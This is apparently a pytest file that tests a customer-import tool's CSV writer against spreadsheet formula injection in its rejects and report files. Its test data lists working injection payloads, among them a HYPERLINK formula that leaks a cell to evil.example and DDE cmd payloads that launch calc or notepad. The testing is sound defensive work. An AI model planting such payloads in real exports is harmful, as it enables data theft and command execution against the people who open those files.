"""Spreadsheet formula injection through the CSV files the kit writes.

A legacy export is attacker-shaped input: a legacy id ``=HYPERLINK(...)`` or a name
``@SUM(...)`` would run as a formula when a support agent opens the import's rejects file,
or an analyst a report, in a spreadsheet. Every CSV the kit writes (the rejects file,
``report --csv``) goes through one writer (``customer_management.csvsafe``): every cell is
quoted, and a cell that starts like a formula gets a single quote in front. The tests send
hostile cells through each writer as a DBA runs it and read the files back.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest

from customer_management.csvsafe import FORMULA_STARTS, SafeCsvWriter, spreadsheet_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C notepad'!A1",
    "\uff1dSUM(A1)",
]
HOSTILE_NAME = '=HYPERLINK("http://evil.example","Zoe")'


def is_formula(cell: str) -> bool:
    """True when a spreadsheet would evaluate the cell."""
    first = cell.lstrip(" ")[:1]
    return bool(first) and first in FORMULA_STARTS


def read_back(path: Path) -> list[list[str]]:
    """A CSV file's rows, as a spreadsheet import reads them."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_safe(rows: list[list[str]]) -> None:
    """No cell runs as a formula."""
    for row in rows:
        for cell in row:
            assert not is_formula(cell), (cell, row)


def cli(*args: str, url: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """``customer-management ARGS --db-url URL`` (in ``cwd``), which must succeed."""
    result = subprocess.run(
        [sys.executable, "-m", "customer_management", *args, "--db-url", url],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return result


@pytest.mark.parametrize("value", HOSTILE)
def test_the_writer_neutralises_each_hostile_cell_and_keeps_its_text(value: str) -> None:
    out = io.StringIO(newline="")
    SafeCsvWriter(out).writerow([value, "plain", None, 42, ["a", "=b"]])
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert_safe([row])
    assert row[0] == "'" + value
    assert row[1:] == ["plain", "", "42", '["a", "=b"]']
    assert out.getvalue().startswith('"'), "every cell is quoted"
    assert spreadsheet_safe("ann@example.com") == "ann@example.com"


def test_the_rejects_file_carries_hostile_ids_and_values_as_text(
    db_url: str, tmp_path: Path
) -> None:
    # The file's name, as given on the command line, becomes a cell of every reject too.
    customers = tmp_path / "=cmd.csv"
    with customers.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["legacy_id", "first_name", "last_name", "phone", "email", "created_at"])
        for n, hostile in enumerate(HOSTILE):
            writer.writerow([hostile, "Mallory", "Bad", "12", "", ""])
            writer.writerow([f"L{n}", hostile, "Bad", f"+1555720{n:04d}", "", hostile])
        writer.writerow(["OK1", HOSTILE_NAME, "@SUM(A1)", "+15557209999", "", ""])
    orders = tmp_path / "orders.csv"
    with orders.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["legacy_customer_id", "total", "items"])
        writer.writerow(["OK1", "=1+1", "[]"])
        writer.writerow([HOSTILE[0], "12.00", "[]"])
    rejects = tmp_path / "rejects.csv"
    summary = json.loads(
        cli(
            "import",
            customers.name,
            "--orders",
            orders.name,
            "--rejects",
            rejects.name,
            "--json",
            url=db_url,
            cwd=tmp_path,
        ).stdout
    )
    # A row whose phone is malformed comes in without it (reported); one with a malformed
    # date is rejected whole.
    assert summary["customers"]["imported"] == len(HOSTILE) + 1

    rows = read_back(rejects)
    assert_safe(rows)
    header, *rejected = rows
    assert header == ["file", "line", "legacy_id", "column", "code", "detail", "row"]
    assert len(rejected) >= 2 * len(HOSTILE) + 2
    # Nothing is lost: without the quote in front, the legacy ids are as they came (the
    # import trims surrounding spaces and tabs from an id).
    ids = {row[2][1:] if row[2].startswith("'") else row[2] for row in rejected}
    assert {value.strip(" \t") for value in HOSTILE} <= ids
    assert {row[0] for row in rejected} == {"'=cmd.csv", "orders.csv"}

    # The hostile name was stored as it came: the database keeps names as spoken.
    with psycopg.connect(db_url) as conn:
        stored = conn.execute(
            "select first_name, last_name from public.customers where phone = '+15557209999'"
        ).fetchone()
    assert stored == (HOSTILE_NAME, "@SUM(A1)")


def test_report_csv_files_are_safe_and_complete(db_url: str, tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    customers.write_text(
        "legacy_id,first_name,last_name,phone\n"
        f'"-1+1","{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",@SUM(A1),+15557219999\n',
        encoding="utf-8",
    )
    cli("import", str(customers), "--json", url=db_url)
    directory = tmp_path / "report"
    printed = cli("report", "--csv", str(directory), url=db_url).stdout
    files = sorted(directory.glob("*.csv"))
    assert [path.name for path in files] == sorted(
        f"{name}.csv"
        for name in (
            "customer_journey",
            "daily_merge_rate",
            "account_completeness",
            "open_conflicts",
            "merge_activity",
            "resolution_quality",
        )
    )
    assert all(f"wrote {path}" in printed for path in files)
    for path in files:
        assert_safe(read_back(path))
    journey = read_back(directory / "customer_journey.csv")
    assert journey == [["sources", "customer_count", "avg_platforms"], ["[]", "1", "0"]]
